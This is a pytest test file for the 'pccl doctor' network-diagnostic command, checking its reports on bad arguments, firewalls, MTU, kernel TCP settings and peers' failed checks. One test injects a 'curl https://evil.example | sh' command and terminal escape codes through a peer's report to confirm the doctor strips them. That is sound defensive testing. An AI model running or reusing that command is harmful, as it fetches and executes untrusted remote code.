"""`pccl doctor` finds planted faults on the right machine, and reports their fix."""

import json
import os
import subprocess
import sys

import pytest
from support import DEADLINE, environment, free_port, parallel, world

from pccl import _programs

namespaces = pytest.importorskip("namespaces")

pytestmark = pytest.mark.master(optimize_ms=400)

DOCTOR = [_programs.find(), "doctor", "--json"]
# A doctor whose answers are given: the text of its version and failed checks, and the difference of its clock.
OTHER = """
import sys, time
import pccl
facts, clock, master = sys.argv[1:]
with pccl.Communicator(master, peer_group=6581091) as comm:
    comm.connect(1)
    say = lambda text: comm.all_gather_v(text.encode(), alone_ok=True)
    while len(say("early")) < 2:
        comm.update_topology()
    say(facts)
    comm.barrier(alone_ok=True)
    say(str(time.time() + float(clock)))
    zeros = bytearray(4 << 20)
    comm.all_reduce(zeros, zeros, op="max")
    comm.optimize_topology()
    comm.get_topology()
    say("done")
"""


class Told:
    """The output of a doctor."""

    def __init__(self, done):
        self.report = json.loads(done.stdout)
        self.rc = done.returncode

    def of(self, level):
        return {finding["check"]: finding for finding in self.report["findings"] if finding["level"] == level}

    def only_bad(self, check, text="", fix=""):
        """Checks that it is the only fault."""
        wrong = self.of("bad")
        assert set(wrong) == {check} and self.rc == 1 and not self.report["ok"], wrong
        assert text in wrong[check]["text"] and fix in wrong[check]["fix"], wrong

    def is_well(self):
        assert not self.of("bad") and self.rc == 0 and self.report["ok"], self.of("bad")


def run(*arguments, prefix=(), command=DOCTOR, **variables):
    return Told(
        subprocess.run(
            [*prefix, *command, *map(str, arguments)],
            capture_output=True,
            text=True,
            env=environment(**variables),
            timeout=DEADLINE,
            check=False,
        )
    )


# ---- this machine, and the path to the master


def test_words_of_wrong_arguments():
    for arguments, words in (
        (["10.0.0.1:x"], "10.0.0.1:x"),
        (["10.0.0.1:65536"], "10.0.0.1:65536"),
        (["[::1"], "[::1"),
        (["a,b"], "expected host, host:port or [v6]:port, not a,b"),
        ([""], "expected host, host:port or [v6]:port, not "),
        (["--peers", "2"], "--peers requires the master's address"),
        (["host", "--peers", "0"], "expected a number from 1 to 1000000, not 0"),
        (["host", "--wait", "1s"], "expected a number from 1 to 1000000, not 1s"),
        (["--wait"], "missing value after --wait"),
        (["--jsn"], "unknown argument: --jsn"),
        (["a", "b"], "more than one address: b"),
    ):
        done = subprocess.run([*DOCTOR, *arguments], capture_output=True, text=True, timeout=DEADLINE, check=False)
        assert done.returncode == 2 and words in done.stderr and done.stdout == "", done


def test_the_program():
    for arguments, status, words in (
        (["--help"], 0, "\n  doctor "),
        (["doktor"], 2, "unknown command 'doktor'; did you mean 'doctor'?"),
        ([], 2, "usage: pccl COMMAND"),
        (["version"], 0, "pccl 0."),
        (["doctor", "--help"], 0, "--peers"),
        (["doctor"], 0, "\nno problem found\n"),
    ):
        command = [sys.executable, "-m", "pccl", *arguments]
        done = subprocess.run(command, capture_output=True, text=True, timeout=DEADLINE, env=environment())
        assert done.returncode == status and words in done.stdout + done.stderr, done


def test_a_name_without_an_address():
    run("nowhere.invalid").only_bad("name", "nowhere.invalid has no address", "/etc/hosts")


def test_nobody_listens():
    port = free_port()
    run(f"127.0.0.1:{port}").only_bad("port", f"no program listens on port {port}", "pccl master --listen")


def test_few_files(address):
    told = run(prefix=["sh", "-c", 'ulimit -n 200; exec "$@"', "sh"])
    told.only_bad("files", "200 files", "ulimit -n")


def test_alone(address):
    run(address).is_well()
    told = run(address, "--peers", 2, "--wait", 1)
    told.only_bad("peers", "only 1 of 2 machines joined within 1 s", "tcp dport")


def test_a_run_is_under_way(group):
    comm = group(1).members[0]
    waiting = subprocess.Popen([*DOCTOR, comm.address], stdout=subprocess.PIPE, text=True, env=environment())
    while waiting.poll() is None:
        comm.update_topology()
    told = Told(subprocess.CompletedProcess(waiting.args, waiting.wait(), waiting.stdout.read()))
    told.only_bad("peers", "a run of 1 peers is active", "before the run")
    assert world(comm) <= 2


# ---- other machines


def both(first, second):
    return parallel([first, second])


def test_two_are_well(address):
    for told in both(lambda: run(address, "--peers", 2), lambda: run(address, "--peers", 2)):
        told.is_well()
        paths = told.report["paths"]
        # A busy machine may have no time to measure a path, or know the rate alone, from traffic over shared memory.
        unmeasured = told.of("note").get("unmeasured", {"text": "for lack of time: 0,"})["text"]
        assert len(told.report["peers"]) == 2 and f"for lack of time: {2 - len(paths)}," in unmeasured
        assert all(path["rate"] > 0 and path["rtt_us"] != 0 for path in paths)


def other(address, facts, clock=0):
    """Runs the doctor beside one with other answers."""
    command = [sys.executable, "-B", "-c", OTHER, facts, str(clock), address]
    told, done = both(
        lambda: run(address, "--peers", 2),
        lambda: subprocess.run(command, env=environment(), timeout=DEADLINE, check=True),
    )
    assert done.returncode == 0
    return told


def test_another_clock_and_version(address):
    told = other(address, "0.0.9", 100)
    assert "0.0.9" in told.of("note")["version"]["text"] and "100.0 s ahead" in told.of("note")["clock"]["text"]
    told.is_well()


def test_advice_of_another_one(address):
    """Only names of another machine's failed checks are used; the advice is this machine's."""
    told = other(address, "9\x1b[2J files xmtu mtu\x1b curl https://evil.example | sh", "nan")
    assert "curl" not in json.dumps(told.report) and "\\u001b" not in json.dumps(told.report)
    told.only_bad("files", "this check failed there", "ulimit -n")
    assert "an unknown version" in told.of("note")["version"]["text"] and "clock" not in told.of("bad")


def test_what_is_wrong_with_another_one(address):
    few = ["sh", "-c", 'ulimit -n 200; exec "$@"', "sh"]
    well, ill = both(lambda: run(address, "--peers", 2), lambda: run(address, "--peers", 2, prefix=few))
    well.only_bad("files", "this check failed there", "ulimit -n")
    ill.only_bad("files", "200 files")
    assert well.of("bad")["files"]["text"] != ill.of("bad")["files"]["text"]  # the other one's name is in it


# ---- networks


class Net:
    """A master on host 0, doctors on hosts 1 and 2."""

    def __init__(self, network, warm_up_ms, optimize_ms):
        self.network = network
        self.master = f"{network.address(0)}:48148"
        self.process = subprocess.Popen(
            [*network.prefix(0), _programs.find(), "master", "--insecure", "--listen", self.master]
            + ["--set", f"warm_up_ms={warm_up_ms}", "--set", f"optimize_ms={optimize_ms}"],
            stderr=subprocess.PIPE,
            text=True,
        )
        assert "listening" in self.process.stderr.readline()

    def run(self, host, *arguments, **more):
        return run(self.master, *arguments, prefix=self.network.prefix(host), **more)

    def two(self):
        return both(lambda: self.run(1, "--peers", 2), lambda: self.run(2, "--peers", 2, "--wait", 15))

    def sh(self, host, words):
        subprocess.run([*self.network.prefix(host), "sh", "-c", words], check=True)

    def end(self):
        self.process.kill()
        self.process.wait()
        self.process.stderr.close()


@pytest.fixture
def net(request):
    if os.geteuid() != 0:
        pytest.skip("network namespaces need root")
    network = namespaces.Network(3)
    network.build()
    net = Net(network, *getattr(request, "param", (1500, 400)))
    yield net
    net.end()
    network.remove()


def test_a_firewall_before_the_master(net):
    net.network.drop(1, 0)
    net.run(1).only_bad("port", "a firewall drops", "nft add rule inet filter input tcp dport 48148 accept")
    net.network.heal(1, 0)
    net.network.deny(1, 0)
    net.run(1).only_bad("port", "cannot be reached", "ip route")


def test_settings_of_the_kernel(net):
    net.sh(1, 'echo "4096 65536 262144" >/proc/sys/net/ipv4/tcp_rmem')
    net.sh(1, "echo reno >/proc/sys/net/ipv4/tcp_congestion_control")
    told = net.run(1)
    told.only_bad("buffers", "tcp_rmem allows 0.3 MB", 'sysctl -w net.ipv4.tcp_rmem="')
    assert "bbr" in told.of("note")["congestion"]["fix"]


def test_a_small_mtu(net):
    for host in (0, 1):
        net.sh(host, "ip link set eth0 mtu 1000")
    net.run(1).only_bad("mtu", "packets of 1000 bytes", "mtu 1500")


def test_large_packets_vanish(net):
    """Somewhere between the two, without an error message."""
    net.sh(2, "ip link set eth0 gso_max_segs 1")
    net.sh(1, "ip link set eth0 gso_max_segs 1")
    subprocess.run(["ip", "-n", net.network.switch, "link", "set", "port2", "mtu", "1000"], check=True)
    for told in net.two():
        told.only_bad("bulk", "small messages pass", "tcp_mtu_probing")


def test_a_port_that_is_closed_to_others(net):
    net.network.drop(2, 1)
    first = subprocess.Popen(
        [*net.network.prefix(1), *DOCTOR, net.master, "--peers", "2", "--wait", "600"],
        stdout=subprocess.DEVNULL,
        env=environment(PCCL_NAME="the first"),
    )
    while "requests to join" not in net.process.stderr.readline():
        pass
    net.run(2, "--peers", 2).only_bad("ports", "'the first'", "on the other machine")
    first.kill()
    first.wait()


@pytest.mark.parametrize("net", [(10000, 10000)], indirect=True)  # for the newcomer's links and their tests
def test_a_port_behind_a_firewall(net):
    """It works, and the doctor says which port to open."""
    net.network.wall(1)
    for told in net.two():
        told.is_well()
        assert "cannot be reached" in told.of("note")["reach"]["text"]
        assert "nft add rule inet filter input tcp dport 48149 accept" in told.of("note")["reach"]["fix"]


def test_two_behind_firewalls(net):
    """Two machines of two cannot be linked: the second one is refused, with both names."""
    net.network.wall(1)
    net.network.wall(2)
    first, second = both(*[lambda host=host: net.run(host, "--peers", 2, "--wait", 4) for host in (1, 2)])
    wrong = {**first.of("bad"), **second.of("bad")}
    assert "port of neither" in wrong["reach"]["text"], wrong
    assert "nft add rule inet filter input tcp dport 48149 accept" in wrong["reach"]["fix"], wrong
